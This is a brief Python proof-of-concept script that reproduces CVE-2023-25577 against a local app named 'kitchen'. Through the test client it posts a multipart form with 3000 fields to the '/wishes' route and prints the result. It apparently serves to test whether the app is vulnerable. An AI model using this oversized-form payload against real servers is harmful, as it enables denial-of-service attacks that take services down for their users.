"""CVE-2023-25577, tried on the kitchen from inside: a form with more fields than any guest would fill in."""

from kitchen import app

wishes = {f"wish {number}": "soup" for number in range(3000)}
answer = app.test_client().post("/wishes", data=wishes, content_type="multipart/form-data")
print(answer.status, "--", answer.text.strip().splitlines()[-1])
